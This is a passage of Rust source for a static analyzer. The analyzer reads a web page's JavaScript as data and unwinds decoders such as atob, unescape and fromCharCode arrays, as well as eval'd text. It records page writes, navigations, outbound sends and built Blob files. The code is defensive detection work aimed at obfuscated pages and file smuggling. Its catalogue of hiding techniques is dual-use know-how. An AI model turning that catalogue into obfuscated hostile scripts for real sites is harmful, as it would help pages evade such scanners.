//! A page's JavaScript read as data, never run (no JavaScript engine,
//! DESIGN.md): string literals with their escapes (ECMA-262 §12.9.4),
//! concatenation, variables holding such values, and the decoders a page
//! uses to hide what it shows or builds — `atob` (HTML §8.3, "forgiving
//! base64"), `unescape` and `escape` (ECMA-262 Annex B.2.1), `decodeURI`
//! and `decodeURIComponent` (§19.2.6), `String.fromCharCode` with literal
//! codes, arrays of them (`.map(… fromCharCode …).join('')`, `.apply`,
//! spread, a loop over such an array), `split`/`reverse`/`join`, literal
//! `replace` — followed as far as what they are given is plain data. What
//! is computed otherwise stays unknown, with the decoders and the large
//! encoded literals it came from still known.
//!
//! What it records, for the page reader to judge ([`Facts`]): text written
//! into the page (`document.write`, `innerHTML`, `outerHTML`,
//! `insertAdjacentHTML`, `srcdoc`), addresses navigated to (`location`,
//! `window.open`, `href`, `src`), addresses data is sent to (`fetch`,
//! `XMLHttpRequest.open`, `sendBeacon`, jQuery's `ajax`/`post`, a form's
//! `action` set by script), files built (`new Blob`, `new File`,
//! `msSaveOrOpenBlob`, `data:` URLs) and the string literals that name a
//! protocol handler or a share. Code handed to `eval`, `Function`,
//! `setTimeout` as text is read the same way, three levels deep at most.
//!
//! Bounded: one pass over the tokens (each token is read once, but for
//! a small lookahead), nesting followed to [`MAX_NESTING`] levels, values
//! no longer than [`MAX_VALUE`] characters and [`VALUE_BUDGET`] in all.

use super::target;
use crate::decode::lenient_base64;
use std::collections::HashMap;

/// Brackets, parentheses and blocks followed inside one another.
const MAX_NESTING: usize = 100;
/// Characters (or bytes) one value may hold.
const MAX_VALUE: usize = 16 << 20;
/// Characters (or bytes) all values of one page may hold together.
const VALUE_BUDGET: usize = 64 << 20;
/// Array items and call arguments kept for one page (each is a value in
/// memory, about 64 bytes): a char-code array of a page up to this many
/// characters is decoded, a longer one stays unknown (and a page written
/// from it is held).
const MAX_ITEMS: usize = 65_536;
/// Code read through `eval` and its kin inside one another.
const MAX_EVAL_DEPTH: usize = 3;
/// A literal of this many characters of an encoding alphabet (base64, hex,
/// percent escapes, comma-separated codes), or an array of this many
/// numbers, is a "large embedded string".
pub(crate) const LARGE: usize = 1024;

/// A file the script builds.
#[derive(Debug, Clone, Default)]
pub(crate) struct Build {
    /// The sink: `new Blob`, `new File`, `msSaveOrOpenBlob`, `data: URL`.
    pub sink: &'static str,
    /// Its bytes, when every part of it is plain data.
    pub bytes: Option<Vec<u8>>,
    /// The first decoder what it holds went through.
    pub decoder: Option<&'static str>,
    /// It holds, or is computed from, a large encoded literal.
    pub large: bool,
    /// The type the script gives it (`{type: …}`, a `data:` URL's type).
    pub mime: Option<String>,
    /// The name it is saved under (`download`, `msSaveOrOpenBlob`'s second
    /// argument, `new File`'s name).
    pub name: Option<String>,
}

/// Text the script writes into its page.
#[derive(Debug, Clone)]
pub(crate) struct Written {
    /// The text, as far as it could be read.
    pub html: String,
    /// The decoder it went through (`atob` …), or the sink (`document.write`).
    pub through: &'static str,
    /// Whether it went through a decoder.
    pub decoded: bool,
    /// Whether all of it could be read as plain data.
    pub complete: bool,
}

/// What the scripts of one page do, as far as their data can be read.
#[derive(Debug, Default)]
pub(crate) struct Facts {
    pub written: Vec<Written>,
    /// Addresses navigated to or loaded.
    pub navigations: Vec<String>,
    /// Addresses data is sent to, and a form's `action` set by script.
    pub sends: Vec<String>,
    /// Data is sent somewhere the reading could not resolve.
    pub sends_unknown: bool,
    pub builds: Vec<Build>,
}

/// A JavaScript value as far as it is data.
#[derive(Debug, Clone, Default)]
struct Value {
    data: Data,
    decoder: Option<&'static str>,
    large: bool,
    /// Read exactly (no approximation such as a regular-expression
    /// `replace` taken as no change).
    exact: bool,
    /// For `x.length`: the text whose length it is (`new Uint8Array(x.length)`).
    length_of: Option<Box<Value>>,
}

#[derive(Debug, Clone, Default)]
enum Data {
    #[default]
    Unknown,
    Text(String),
    Bytes(Vec<u8>),
    Num(f64),
    Array(Vec<Value>),
    Object(Vec<(String, Value)>),
    /// A function whose body calls `String.fromCharCode`.
    Function {
        char_code: bool,
    },
    /// A built file (an index into `Facts::builds`).
    Blob(usize),
    /// `a[i]` of an array of numbers (a loop's element).
    ElementOf(Vec<f64>),
    Regex,
}

impl Value {
    fn unknown() -> Value {
        Value::default()
    }
    fn text(s: String) -> Value {
        Value {
            data: Data::Text(s),
            exact: true,
            ..Value::default()
        }
    }
    fn num(n: f64) -> Value {
        Value {
            data: Data::Num(n),
            exact: true,
            ..Value::default()
        }
    }
    /// The flags of `self` and `other` together, data unknown.
    fn taint(mut self, other: &Value) -> Value {
        self.decoder = self.decoder.or(other.decoder);
        self.large |= other.large;
        self.data = Data::Unknown;
        self.exact = false;
        self.length_of = None;
        self
    }
    /// Unknown data with the flags of `self`.
    fn opaque(&self) -> Value {
        Value {
            decoder: self.decoder,
            large: self.large,
            ..Value::default()
        }
    }
    fn as_text(&self) -> Option<&str> {
        match &self.data {
            Data::Text(s) => Some(s),
            _ => None,
        }
    }
    fn known(&self) -> bool {
        !matches!(self.data, Data::Unknown)
    }
    /// As text, the way `+` and `join` turn it into a string.
    fn to_text(&self) -> Option<String> {
        match &self.data {
            Data::Text(s) => Some(s.clone()),
            Data::Num(n) => Some(num_text(*n)),
            Data::Bytes(b) => Some(b.iter().map(|&c| c as char).collect()),
            Data::Array(items) => {
                let parts: Option<Vec<String>> = items.iter().map(Value::to_text).collect();
                parts.map(|p| p.join(","))
            }
            _ => None,
        }
    }
    /// As the bytes a `Blob` holds: strings as UTF-8 (File API §3.1), but
    /// a "binary string" (every character below 256) that a decoder made as
    /// its bytes, as a script's `charCodeAt` loop turns it.
    fn blob_bytes(&self) -> Option<Vec<u8>> {
        match &self.data {
            Data::Text(s) if self.decoder.is_some() && s.chars().all(|c| (c as u32) < 256) => {
                Some(s.chars().map(|c| c as u8).collect())
            }
            Data::Text(s) => Some(s.as_bytes().to_vec()),
            Data::Bytes(b) => Some(b.clone()),
            Data::Num(n) => Some(num_text(*n).into_bytes()),
            _ => None,
        }
    }
}

/// The length a value has as text, without building the text.
fn text_len(v: &Value) -> Option<usize> {
    match &v.data {
        Data::Text(s) => Some(s.len()),
        Data::Num(_) => Some(24),
        Data::Bytes(b) => Some(b.len() * 2),
        Data::Array(items) => items
            .iter()
            .map(text_len)
            .sum::<Option<usize>>()
            .map(|n| n + items.len()),
        _ => None,
    }
}

fn num_text(n: f64) -> String {
    if n.fract() == 0.0 && n.abs() < 1e15 {
        format!("{}", n as i64)
    } else {
        format!("{n}")
    }
}

/// A token of the script.
#[derive(Debug, Clone, PartialEq)]
enum Tok<'s> {
    Str(String),
    /// A template literal: its text, and whether it has `${…}` parts.
    Template(String, bool),
    Num(f64),
    Ident(&'s str),
    Punct(&'s str),
    Regex,
    End,
}

/// The lexer: a position in the source, and whether a `/` there starts a
/// regular expression (it does after an operator, not after a value).
#[derive(Clone, Copy)]
struct Lexer {
    pos: usize,
    regex_ok: bool,
}

const PUNCTS: &[&str] = &[
    ">>>=", "...", "===", "!==", "**=", "<<=", ">>=", ">>>", "&&=", "||=", "??=", "=>", "==", "!=",
    "<=", ">=", "&&", "||", "??", "?.", "++", "--", "+=", "-=", "*=", "/=", "%=", "&=", "|=", "^=",
    "<<", ">>", "**",
];

const REGEX_AFTER_WORDS: &[&str] = &[
    "return",
    "typeof",
    "case",
    "do",
    "else",
    "in",
    "instanceof",
    "new",
    "delete",
    "void",
    "throw",
    "yield",
    "await",
];

/// What the reading of one page shares across its scripts: the variables,
/// the facts, and the budgets.
#[derive(Default)]
pub(crate) struct Context {
    vars: HashMap<String, Value>,
    pub facts: Facts,
    spent: usize,
    /// Array items and arguments kept so far.
    items: usize,
    /// The name the next built file is saved under (`a.download = …`).
    pending_name: Option<String>,
}

impl Context {
    /// Reads one script (a `<script>` element, an event attribute, a
    /// `javascript:` URL) in this page's context.
    pub(crate) fn read(&mut self, src: &str) {
        self.read_at(src, 0);
    }

    fn read_at(&mut self, src: &str, depth: usize) {
        let mut r = Reader {
            src,
            lex: Lexer {
                pos: 0,
                regex_ok: true,
            },
            ctx: self,
            nesting: 0,
            depth,
            char_code_seen: 0,
            quiet: false,
        };
        r.run();
    }

    /// Charges `n` array items or arguments; false when the budget is spent.
    fn charge_items(&mut self, n: usize) -> bool {
        if self.items + n > MAX_ITEMS {
            return false;
        }
        self.items += n;
        true
    }

    /// Charges `n` characters to the budget; false when it is spent.
    fn charge(&mut self, n: usize) -> bool {
        if n > MAX_VALUE || self.spent + n > VALUE_BUDGET {
            return false;
        }
        self.spent += n;
        true
    }
}

struct Reader<'s, 'c> {
    src: &'s str,
    lex: Lexer,
    ctx: &'c mut Context,
    nesting: usize,
    depth: usize,
    /// How many `fromCharCode` names were read so far (a callback that
    /// calls it is a char-code decoder).
    char_code_seen: usize,
    /// Set while peeking: a literal is recorded on its real read only.
    quiet: bool,
}

impl<'s> Reader<'s, '_> {
    // ---- lexing

    fn bytes(&self) -> &'s [u8] {
        self.src.as_bytes()
    }

    /// Skips white space and comments (`//`, `/* */`, and the HTML-like
    /// `<!--` and `-->` of Annex B.1.1).
    fn skip_space(&mut self) {
        let b = self.bytes();
        let mut i = self.lex.pos;
        loop {
            while i < b.len() && (b[i].is_ascii_whitespace() || b[i] == 0x0b) {
                i += 1;
            }
            if b[i..].starts_with(b"//")
                || b[i..].starts_with(b"<!--")
                || b[i..].starts_with(b"-->")
            {
                while i < b.len() && b[i] != b'\n' {
                    i += 1;
                }
                continue;
            }
            if b[i..].starts_with(b"/*") {
                i = memchr::memmem::find(&b[i + 2..], b"*/").map_or(b.len(), |e| i + 2 + e + 2);
                continue;
            }
            // Non-ASCII spaces (NBSP, U+2028 …) count as white space.
            if i < b.len() && b[i] >= 0x80 {
                let c = self.src[i..].chars().next().unwrap_or('a');
                if c.is_whitespace() || c == '\u{feff}' {
                    i += c.len_utf8();
                    continue;
                }
            }
            break;
        }
        self.lex.pos = i;
    }

    fn next(&mut self) -> Tok<'s> {
        self.skip_space();
        let b = self.bytes();
        let start = self.lex.pos;
        if start >= b.len() {
            return Tok::End;
        }
        let c = b[start];
        let tok = match c {
            b'"' | b'\'' => {
                let (s, end) = string_literal(self.src, start);
                self.lex.pos = end;
                Tok::Str(s)
            }
            b'`' => {
                let (s, subst, end) = template_literal(self.src, start);
                self.lex.pos = end;
                Tok::Template(s, subst)
            }
            b'0'..=b'9' => {
                let (n, end) = number(self.src, start);
                self.lex.pos = end;
                Tok::Num(n)
            }
            b'.' if b.get(start + 1).is_some_and(u8::is_ascii_digit) => {
                let (n, end) = number(self.src, start);
                self.lex.pos = end;
                Tok::Num(n)
            }
            b'/' if self.lex.regex_ok => match regex_end(b, start) {
                Some(end) => {
                    self.lex.pos = end;
                    Tok::Regex
                }
                None => {
                    self.lex.pos = start + 1;
                    Tok::Punct("/")
                }
            },
            c if c.is_ascii_alphabetic() || c == b'_' || c == b'$' || c == b'\\' || c >= 0x80 => {
                let mut i = start;
                while i < b.len()
                    && (b[i].is_ascii_alphanumeric()
                        || matches!(b[i], b'_' | b'$' | b'\\')
                        || b[i] >= 0x80)
                {
                    if b[i] >= 0x80 {
                        let ch = self.src[i..].chars().next().unwrap_or(' ');
                        if ch.is_whitespace() {
                            break;
                        }
                        i += ch.len_utf8();
                    } else {
                        i += 1;
                    }
                }
                let first = self.src[start..].chars().next().map_or(1, char::len_utf8);
                self.lex.pos = i.max(start + first);
                Tok::Ident(&self.src[start..self.lex.pos])
            }
            _ => {
                let rest = &self.src[start..];
                let len = PUNCTS
                    .iter()
                    .find(|p| rest.starts_with(**p))
                    .map_or_else(|| rest.chars().next().map_or(1, char::len_utf8), |p| p.len());
                self.lex.pos = start + len;
                Tok::Punct(&self.src[start..start + len])
            }
        };
        self.lex.regex_ok = match &tok {
            Tok::Punct(p) => !matches!(*p, ")" | "]" | "}" | "++" | "--"),
            Tok::Ident(w) => REGEX_AFTER_WORDS.contains(w),
            _ => false,
        };
        if let Tok::Ident("fromCharCode") = tok {
            self.char_code_seen += 1;
        }
        if let (Tok::Str(s), false) = (&tok, self.quiet) {
            self.literal_reaches(s);
        }
        tok
    }

    fn peek(&mut self) -> Tok<'s> {
        let saved = self.lex;
        let seen = self.char_code_seen;
        self.quiet = true;
        let tok = self.next();
        self.quiet = false;
        self.lex = saved;
        self.char_code_seen = seen;
        tok
    }

    fn eat(&mut self, p: &str) -> bool {
        if self.peek() == Tok::Punct(p) {
            self.next();
            true
        } else {
            false
        }
    }

    /// A string literal that names a protocol handler or a share is an
    /// address the script may go to, wherever it sits.
    fn literal_reaches(&mut self, s: &str) {
        // Only the start of a URL says where it goes.
        let mut n = s.len().min(512);
        while !s.is_char_boundary(n) {
            n -= 1;
        }
        let head = &s[..n];
        let u = target::clean(head);
        let file_with_path = u.len() > 8 && u.to_ascii_lowercase().starts_with("file://");
        match target::reach(&u, None) {
            Some(target::Reach::File) if !file_with_path => {}
            Some(_) => self.navigation(s),
            None => {}
        }
    }

    // ---- statements

    fn run(&mut self) {
        while self.peek() != Tok::End {
            self.statement();
        }
    }

    fn statement(&mut self) {
        let before = self.lex.pos;
        match self.peek() {
            Tok::Ident("var" | "let" | "const") => {
                self.next();
                self.declarations();
            }
            Tok::Ident("function") => {
                self.next();
                self.function_rest();
            }
            Tok::Ident(
                "if" | "for" | "while" | "do" | "else" | "switch" | "case" | "default" | "break"
                | "continue" | "try" | "catch" | "finally" | "class" | "async" | "return" | "throw"
                | "typeof" | "void" | "await" | "yield" | "delete" | "of" | "in" | "extends"
                | "static" | "get" | "set" | "import" | "export",
            ) => {
                self.next();
            }
            Tok::Punct("{") => {
                self.next();
                self.block();
            }
            Tok::Punct(_) | Tok::Regex => {
                self.next();
            }
            Tok::End => {}
            _ => {
                self.expr();
            }
        }
        if self.lex.pos == before {
            self.next();
        }
    }

    /// The statements of a block, after its `{`, to its `}`.
    fn block(&mut self) {
        if self.nesting >= MAX_NESTING {
            return;
        }
        self.nesting += 1;
        loop {
            match self.peek() {
                Tok::End => break,
                Tok::Punct("}") => {
                    self.next();
                    break;
                }
                _ => self.statement(),
            }
        }
        self.nesting -= 1;
    }

    /// `var a = …, b = …`.
    fn declarations(&mut self) {
        loop {
            let Tok::Ident(name) = self.peek() else {
                return;
            };
            self.next();
            if self.eat("=") {
                let v = self.assignment_expr();
                self.ctx.vars.insert(name.to_string(), v);
            }
            if !self.eat(",") {
                return;
            }
        }
    }

    /// After `function`: an optional name, the parameters, the body.
    /// Returns whether the body calls `String.fromCharCode`.
    fn function_rest(&mut self) -> bool {
        if let Tok::Ident(_) = self.peek() {
            self.next();
        }
        if self.eat("(") {
            self.skip_balanced(")");
        }
        let seen = self.char_code_seen;
        if self.eat("{") {
            self.block();
        }
        self.char_code_seen > seen
    }

    /// Skips to the closing `close`, nesting followed by counting.
    fn skip_balanced(&mut self, close: &str) {
        let mut depth = 1usize;
        loop {
            match self.next() {
                Tok::End => return,
                Tok::Punct("(" | "[" | "{") => depth += 1,
                Tok::Punct(p) if matches!(p, ")" | "]" | "}") => {
                    let _ = (p, close);
                    depth -= 1;
                    if depth == 0 {
                        return;
                    }
                }
                _ => {}
            }
        }
    }

    // ---- expressions

    /// An expression, with the comma operator: the last value.
    fn expr(&mut self) -> Value {
        let mut v = self.assignment_expr();
        while self.eat(",") {
            v = self.assignment_expr();
        }
        v
    }

    /// One expression without the comma operator: terms joined by `+`
    /// (concatenation when both sides are text), other operators giving
    /// an unknown value that keeps its operands' flags, `? :`.
    fn assignment_expr(&mut self) -> Value {
        if self.nesting >= MAX_NESTING {
            self.next();
            return Value::unknown();
        }
        self.nesting += 1;
        let mut acc = self.unary();
        loop {
            match self.peek() {
                Tok::Punct("+") => {
                    self.next();
                    let r = self.unary();
                    acc = self.concat(acc, r);
                }
                Tok::Punct("?") => {
                    self.next();
                    let a = self.assignment_expr();
                    self.eat(":");
                    let b = self.assignment_expr();
                    acc = acc.taint(&a).taint(&b);
                }
                Tok::Punct(
                    "-" | "*" | "/" | "%" | "**" | "==" | "===" | "!=" | "!==" | "<" | ">" | "<="
                    | ">=" | "&&" | "||" | "??" | "&" | "|" | "^" | "<<" | ">>" | ">>>",
                )
                | Tok::Ident("instanceof" | "in") => {
                    self.next();
                    let r = self.unary();
                    acc = acc.taint(&r);
                }
                _ => break,
            }
        }
        self.nesting -= 1;
        acc
    }

    fn concat(&mut self, a: Value, b: Value) -> Value {
        if let (Data::Num(x), Data::Num(y)) = (&a.data, &b.data) {
            return Value::num(x + y);
        }
        let fits = match (text_len(&a), text_len(&b)) {
            (Some(x), Some(y)) => self.ctx.charge(x + y),
            _ => false,
        };
        match (a.to_text(), b.to_text()) {
            (Some(x), Some(y)) if fits => Value {
                data: Data::Text(x + &y),
                decoder: a.decoder.or(b.decoder),
                large: a.large || b.large,
                exact: a.exact && b.exact,
                length_of: None,
            },
            // Part unknown: a decoder counts when what it decoded is
            // unknown or large (a BOM from `String.fromCharCode(0xFEFF)`
            // before the page's own rows does not make them decoded).
            _ => {
                let counted = |v: &Value| {
                    let small = v.known() && !v.large && text_len(v).is_some_and(|n| n < LARGE);
                    if small { None } else { v.decoder }
                };
                Value {
                    decoder: counted(&a).or(counted(&b)),
                    large: a.large || b.large,
                    ..Value::default()
                }
            }
        }
    }

    fn unary(&mut self) -> Value {
        if self.nesting >= MAX_NESTING {
            self.next();
            return Value::unknown();
        }
        self.nesting += 1;
        let v = self.unary_inner();
        self.nesting -= 1;
        v
    }

    fn unary_inner(&mut self) -> Value {
        match self.peek() {
            Tok::Punct("!" | "~" | "++" | "--") => {
                self.next();
                self.unary().opaque()
            }
            Tok::Punct("-") => {
                self.next();
                match self.unary() {
                    Value {
                        data: Data::Num(n), ..
                    } => Value::num(-n),
                    v => v.opaque(),
                }
            }
            Tok::Punct("+") => {
                self.next();
                self.unary()
            }
            Tok::Punct("...") => {
                self.next();
                self.unary()
            }
            Tok::Ident("typeof" | "void" | "await" | "delete") => {
                self.next();
                self.unary().opaque()
            }
            _ => self.postfix(),
        }
    }

    fn primary(&mut self) -> (Value, Vec<String>) {
        match self.next() {
            Tok::Str(s) => {
                let large = large_literal(&s);
                if !self.ctx.charge(s.len()) {
                    return (
                        Value {
                            large,
                            ..Value::unknown()
                        },
                        Vec::new(),
                    );
                }
                let mut v = Value::text(s);
                v.large = large;
                (v, Vec::new())
            }
            Tok::Template(s, false) => (Value::text(s), Vec::new()),
            Tok::Template(_, true) => (Value::unknown(), Vec::new()),
            Tok::Num(n) => (Value::num(n), Vec::new()),
            Tok::Regex => (
                Value {
                    data: Data::Regex,
                    ..Value::default()
                },
                Vec::new(),
            ),
            Tok::Punct("(") => {
                let v = if self.peek() == Tok::Punct(")") {
                    Value::unknown()
                } else {
                    self.expr()
                };
                self.eat(")");
                if self.peek() == Tok::Punct("=>") {
                    self.next();
                    return (self.arrow_body(), Vec::new());
                }
                (v, Vec::new())
            }
            Tok::Punct("[") => (self.array_literal(), Vec::new()),
            Tok::Punct("{") => (self.object_literal(), Vec::new()),
            Tok::Ident("function") => {
                let char_code = self.function_rest();
                (
                    Value {
                        data: Data::Function { char_code },
                        ..Value::default()
                    },
                    Vec::new(),
                )
            }
            Tok::Ident("new") => (self.construct(), Vec::new()),
            Tok::Ident("true" | "false" | "null" | "undefined" | "this") => {
                (Value::unknown(), Vec::new())
            }
            Tok::Ident(name) => {
                if self.peek() == Tok::Punct("=>") {
                    self.next();
                    return (self.arrow_body(), Vec::new());
                }
                let v = self.ctx.vars.get(name).cloned();
                (v.unwrap_or_default(), vec![name.to_string()])
            }
            _ => (Value::unknown(), Vec::new()),
        }
    }

    /// After `=>`: a block or an expression.
    fn arrow_body(&mut self) -> Value {
        let seen = self.char_code_seen;
        if self.eat("{") {
            self.block();
        } else {
            self.assignment_expr();
        }
        Value {
            data: Data::Function {
                char_code: self.char_code_seen > seen,
            },
            ..Value::default()
        }
    }

    fn array_literal(&mut self) -> Value {
        let mut items = Vec::new();
        let mut flags = Value::unknown();
        loop {
            match self.peek() {
                Tok::End => break,
                Tok::Punct("]") => {
                    self.next();
                    break;
                }
                Tok::Punct(",") => {
                    self.next();
                }
                _ => {
                    let before = self.lex.pos;
                    let v = self.assignment_expr();
                    flags = flags.taint(&v);
                    if self.ctx.charge_items(1) {
                        items.push(v);
                    }
                    if self.lex.pos == before {
                        self.next();
                    }
                }
            }
        }
        let numbers = items.iter().all(|v| matches!(v.data, Data::Num(_)));
        let items_len = items.len();
        Value {
            data: Data::Array(items),
            decoder: flags.decoder,
            large: flags.large || numbers && items_len >= LARGE,
            exact: true,
            length_of: None,
        }
    }

    fn object_literal(&mut self) -> Value {
        let mut fields = Vec::new();
        let mut flags = Value::unknown();
        loop {
            let key = match self.next() {
                Tok::End | Tok::Punct("}") => break,
                Tok::Punct(",") => continue,
                Tok::Ident(k) => k.to_string(),
                Tok::Str(k) => k,
                Tok::Num(n) => num_text(n),
                Tok::Punct("[") => {
                    self.expr();
                    self.eat("]");
                    String::new()
                }
                _ => continue,
            };
            match self.peek() {
                Tok::Punct(":") => {
                    self.next();
                    let v = self.assignment_expr();
                    flags = flags.taint(&v);
                    fields.push((key, v));
                }
                Tok::Punct("(") => {
                    // A method: parameters and body.
                    self.next();
                    self.skip_balanced(")");
                    if self.eat("{") {
                        self.block();
                    }
                }
                _ => {
                    let v = self.ctx.vars.get(&key).cloned().unwrap_or_default();
                    fields.push((key, v));
                }
            }
        }
        Value {
            data: Data::Object(fields),
            decoder: flags.decoder,
            large: flags.large,
            exact: true,
            length_of: None,
        }
    }

    fn args(&mut self) -> Vec<Value> {
        let mut out = Vec::new();
        let mut over: Option<Value> = None;
        loop {
            match self.peek() {
                Tok::End => break,
                Tok::Punct(")") => {
                    self.next();
                    break;
                }
                Tok::Punct(",") => {
                    self.next();
                }
                Tok::Punct("...") => {
                    self.next();
                    let v = self.assignment_expr();
                    match v.data {
                        Data::Array(items) => out.extend(items),
                        _ => out.push(v),
                    }
                }
                _ => {
                    let before = self.lex.pos;
                    let v = self.assignment_expr();
                    if self.ctx.charge_items(1) {
                        out.push(v);
                    } else {
                        // Over the budget: one unknown that keeps the flags.
                        over = Some(over.unwrap_or_default().taint(&v));
                    }
                    if self.lex.pos == before {
                        self.next();
                    }
                }
            }
        }
        out.extend(over);
        out
    }

    /// A primary, then members, indexes, calls and an assignment to it.
    fn postfix(&mut self) -> Value {
        let (mut cur, mut path) = self.primary();
        loop {
            match self.peek() {
                Tok::Punct("." | "?.") => {
                    self.next();
                    let name = match self.next() {
                        Tok::Ident(n) => n.to_string(),
                        _ => break,
                    };
                    if self.peek() == Tok::Punct("(") {
                        self.next();
                        let args = self.args();
                        cur = self.call(&cur, &path, &name, args);
                        path = vec!["()".into()];
                    } else {
                        cur = property(&cur, &name);
                        path.push(name);
                    }
                }
                Tok::Punct("[") => {
                    self.next();
                    // A literal index is read; a variable one is a loop's
                    // (`a[i]`), whatever its first value.
                    let literal = matches!(self.peek(), Tok::Num(_) | Tok::Str(_));
                    let mut index = self.expr();
                    if !literal && matches!(index.data, Data::Num(_)) {
                        index = Value::unknown();
                    }
                    self.eat("]");
                    match (&cur.data, index.as_text()) {
                        (Data::Object(fields), Some(k)) => {
                            let k = k.to_string();
                            cur = fields
                                .iter()
                                .find(|(n, _)| *n == k)
                                .map(|(_, v)| v.clone())
                                .unwrap_or_else(|| cur.opaque());
                            path.push(k);
                        }
                        (_, Some(k)) => {
                            // `document["write"]`: a member by a computed name.
                            let k = k.to_string();
                            if self.peek() == Tok::Punct("(") {
                                self.next();
                                let args = self.args();
                                cur = self.call(&cur, &path, &k, args);
                                path = vec!["()".into()];
                            } else {
                                cur = property(&cur, &k);
                                path.push(k);
                            }
                        }
                        (Data::Array(items), None) => {
                            let nums: Option<Vec<f64>> = items
                                .iter()
                                .map(|v| match v.data {
                                    Data::Num(n) => Some(n),
                                    _ => None,
                                })
                                .collect();
                            cur = match (nums, &index.data) {
                                (_, Data::Num(i)) => {
                                    items.get(*i as usize).cloned().unwrap_or_default()
                                }
                                (Some(n), _) => Value {
                                    data: Data::ElementOf(n),
                                    large: cur.large,
                                    ..Value::default()
                                },
                                _ => cur.opaque(),
                            };
                            path.push("[]".into());
                        }
                        _ => {
                            cur = cur.opaque().taint(&index);
                            path.push("[]".into());
                        }
                    }
                }
                Tok::Punct("(") => {
                    self.next();
                    let args = self.args();
                    let name = path.last().cloned().unwrap_or_default();
                    let base = path[..path.len().saturating_sub(1)].to_vec();
                    cur = self.call(&Value::unknown(), &base, &name, args);
                    path = vec!["()".into()];
                }
                Tok::Punct("=") => {
                    self.next();
                    let v = self.assignment_expr();
                    self.assign(&path, v.clone(), false);
                    return v;
                }
                Tok::Punct("+=") => {
                    self.next();
                    let r = self.assignment_expr();
                    let v = self.concat(cur, r);
                    self.assign(&path, v.clone(), true);
                    return v;
                }
                Tok::Punct(
                    "||=" | "&&=" | "??=" | "-=" | "*=" | "/=" | "%=" | "|=" | "&=" | "^=",
                ) => {
                    self.next();
                    let r = self.assignment_expr();
                    let v = cur.taint(&r);
                    if path.len() == 1 {
                        self.ctx.vars.insert(path[0].clone(), v.clone());
                    }
                    return v;
                }
                Tok::Template(..) => {
                    // A tagged template.
                    self.next();
                    cur = cur.opaque();
                }
                _ => break,
            }
        }
        cur
    }

    /// `new X(…)`.
    fn construct(&mut self) -> Value {
        let mut names = Vec::new();
        while let Tok::Ident(n) = self.peek() {
            self.next();
            names.push(n.to_string());
            if !self.eat(".") {
                break;
            }
        }
        let args = if self.eat("(") {
            self.args()
        } else {
            Vec::new()
        };
        let name = names.last().map(String::as_str).unwrap_or("");
        let flags = args.iter().fold(Value::unknown(), |a, v| a.taint(v));
        match name {
            "Blob" | "File" => {
                let parts = args.first().cloned().unwrap_or_default();
                let opts = args.get(if name == "File" { 2 } else { 1 }).cloned();
                let file_name = if name == "File" {
                    args.get(1).and_then(|v| v.as_text().map(str::to_string))
                } else {
                    None
                };
                let sink = if name == "File" {
                    "new File"
                } else {
                    "new Blob"
                };
                self.build(sink, &parts, opts.as_ref(), file_name)
            }
            "Uint8Array" | "Int8Array" | "Uint8ClampedArray" => match args.first() {
                Some(v) => to_bytes(v),
                None => Value::unknown(),
            },
            "Function" => {
                if let Some(body) = args.last().and_then(Value::as_text) {
                    let body = body.to_string();
                    self.nested_script(&body);
                }
                flags
            }
            _ => flags,
        }
    }

    /// Records a built file; the value stands for it.
    fn build(
        &mut self,
        sink: &'static str,
        parts: &Value,
        opts: Option<&Value>,
        name: Option<String>,
    ) -> Value {
        let mut b = Build {
            sink,
            name,
            ..Build::default()
        };
        if let Some(Value {
            data: Data::Object(fields),
            ..
        }) = opts
        {
            b.mime = fields
                .iter()
                .find(|(k, _)| k == "type")
                .and_then(|(_, v)| v.as_text().map(str::to_string));
        }
        let items: Vec<Value> = match &parts.data {
            Data::Array(items) => items.clone(),
            _ => vec![parts.clone()],
        };
        // A part's decoder counts when what it decoded is unknown or large:
        // a byte order mark made with `String.fromCharCode(0xFEFF)` is the
        // page's own plain data.
        let mut bytes = Some(Vec::new());
        for item in &items {
            b.large |= item.large;
            let (part, decoder, large) = match &item.data {
                Data::Blob(i) => match self.ctx.facts.builds.get(*i) {
                    Some(x) => (x.bytes.clone(), x.decoder, x.large),
                    None => (None, None, false),
                },
                _ => (item.blob_bytes(), item.decoder, item.large),
            };
            b.large |= large;
            let counts = part.as_ref().is_none_or(|p| p.len() >= LARGE || large);
            if counts {
                b.decoder = b.decoder.or(decoder);
            }
            match (bytes.as_mut(), part) {
                (Some(all), Some(p)) => all.extend(p),
                _ => bytes = None,
            }
        }
        if bytes.is_none() && items.is_empty() {
            b.decoder = parts.decoder;
        }
        b.bytes = bytes;
        let index = self.ctx.facts.builds.len();
        if index < 64 {
            self.ctx.facts.builds.push(b);
        }
        Value {
            data: Data::Blob(index),
            decoder: parts.decoder,
            large: parts.large,
            ..Value::default()
        }
    }

    /// A call of `name` on `receiver` (reached by `path`), or of the
    /// global function `path.name`.
    fn call(&mut self, receiver: &Value, path: &[String], name: &str, args: Vec<Value>) -> Value {
        let flags = args.iter().fold(receiver.opaque(), |a, v| a.taint(v));
        // The global object's members: `window.atob`, `self.eval` …
        let path: Vec<&str> = path
            .iter()
            .map(String::as_str)
            .skip_while(|p| {
                matches!(
                    *p,
                    "window" | "self" | "top" | "parent" | "globalThis" | "frames"
                )
            })
            .collect();
        let on_document = path.contains(&"document");
        let on_location = path.contains(&"location");
        let arg = |i: usize| args.get(i).cloned().unwrap_or_default();
        match (path.as_slice(), name) {
            ([], "atob") => {
                return self.decoded("atob", &arg(0), |s| {
                    Some(
                        lenient_base64(s.as_bytes())
                            .into_iter()
                            .map(|b| b as char)
                            .collect(),
                    )
                });
            }
            ([], "unescape") => return self.decoded("unescape", &arg(0), |s| Some(unescape(s))),
            ([], "decodeURIComponent" | "decodeURI") => {
                return self.decoded("decodeURIComponent", &arg(0), |s| Some(decode_uri(s)));
            }
            ([], "escape") => {
                let a = arg(0);
                return match a.as_text() {
                    Some(s) => Value {
                        data: Data::Text(escape(s)),
                        ..a.clone()
                    },
                    None => a.opaque(),
                };
            }
            (["String"], "fromCharCode") => return self.from_char_code(&args),
            (["String", "fromCharCode"], "apply" | "call") => {
                let rest: Vec<Value> = match arg(1).data {
                    Data::Array(items) if name == "apply" => items,
                    _ => args.iter().skip(1).cloned().collect(),
                };
                return self.from_char_code(&rest);
            }
            ([], "eval" | "execScript" | "setTimeout" | "setInterval" | "Function") => {
                let code = arg(0);
                if let Some(s) = code.as_text() {
                    let s = s.to_string();
                    self.nested_script(&s);
                } else if code.decoder.is_some() {
                    // Code that exists only once decoded, and could not be.
                    self.ctx.facts.written.push(Written {
                        html: String::new(),
                        through: code.decoder.unwrap_or("eval"),
                        decoded: true,
